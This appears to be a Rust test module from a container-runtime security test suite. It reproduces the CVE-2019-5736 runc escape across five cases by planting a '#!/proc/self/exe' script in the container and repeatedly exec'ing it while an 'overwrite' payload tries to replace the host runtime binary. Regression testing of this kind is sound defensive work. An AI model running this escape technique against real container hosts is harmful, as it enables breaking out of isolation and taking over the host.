//! CVE-2019-5736: the container writes to the runtime's program.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use crate::stage::{Bundle, Found, Stage, payload_args};
use crate::{Case, Verdict};

pub const CASES: &[Case] = &[
    ("cve_2019_5736_entrypoint", entrypoint),
    ("cve_2019_5736_exec", exec),
    ("cve_2019_5736_exec_with_cap_sys_admin", exec_with_admin),
    ("cve_2019_5736_exec_with_userns", exec_with_userns),
    ("cve_2019_5736_host_pids", host_pids),
];

/// A program that is the runtime itself: it then runs with the container's files and rights.
fn plant_script(bundle: &Bundle<'_>) {
    let script = bundle.rootfs.join("evil");
    fs::write(&script, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
}

fn check(stage: &Stage, bundle: &Bundle<'_>, found: &mut Found) {
    found.add("overwrite", bundle.read("stolen").lines().map(str::to_owned));
    if !stage.runtime_is_whole() {
        found.add("overwrite", ["the runtime's program was overwritten".to_owned()]);
    }
}

/// The container's own program is `#!/proc/self/exe`; a process of a container with the same pids watches it.
fn entrypoint(stage: &Stage) -> Verdict {
    let mut found = Found::default();
    let mut watcher = stage.bundle();
    let outcome = watcher.run_in_background(&["overwrite"]);
    found.note(&outcome, "watcher");
    let Some(pid) = watcher.pid() else { return found.verdict() };
    for count in 0..20 {
        let mut bundle = stage.bundle();
        plant_script(&bundle);
        bundle.config["process"]["args"] = serde_json::json!(["/evil"]);
        for namespace in bundle.config["linux"]["namespaces"].as_array_mut().unwrap() {
            if namespace["type"] == "pid" {
                namespace["path"] = serde_json::json!(format!("/proc/{pid}/ns/pid"));
            }
        }
        let outcome = bundle.run();
        found.note(&outcome, &format!("container {count}"));
    }
    fs::write(watcher.out("stop"), "").unwrap();
    watcher.wait();
    check(stage, &watcher, &mut found);
    found.verdict()
}

fn execs(stage: &Stage, change: impl FnOnce(&mut Bundle<'_>)) -> Verdict {
    let mut found = Found::default();
    let mut bundle = stage.bundle();
    change(&mut bundle);
    plant_script(&bundle);
    let outcome = bundle.run_in_background(&["overwrite"]);
    found.note(&outcome, "container");
    for count in 0..30 {
        let args = if count % 2 == 0 { serde_json::json!(["/evil"]) } else { payload_args(&["nothing"]) };
        let ran = bundle.exec(|process| process["args"] = args, &[]);
        // How the runtime ends when it is called without words does not matter.
        found.note(&if ran.code >= 0 { Ok(()) } else { Err(ran) }, &format!("exec {count}"));
    }
    fs::write(bundle.out("stop"), "").unwrap();
    bundle.wait();
    if std::env::var_os("ESCAPE_WORDS").is_some() {
        println!("    {}", bundle.read("caught"));
    }
    check(stage, &bundle, &mut found);
    found.verdict()
}

fn exec(stage: &Stage) -> Verdict {
    execs(stage, |bundle| bundle.add_capability("CAP_SYS_PTRACE"))
}

/// It may also mount: a read-only mount alone holds nobody who has this.
fn exec_with_admin(stage: &Stage) -> Verdict {
    execs(stage, |bundle| {
        bundle.add_capability("CAP_SYS_PTRACE");
        bundle.add_capability("CAP_SYS_ADMIN");
    })
}

fn exec_with_userns(stage: &Stage) -> Verdict {
    execs(stage, |bundle| bundle.user_namespace())
}

fn host_pids(stage: &Stage) -> Verdict {
    execs(stage, |bundle| bundle.remove_namespace("pid"))
}
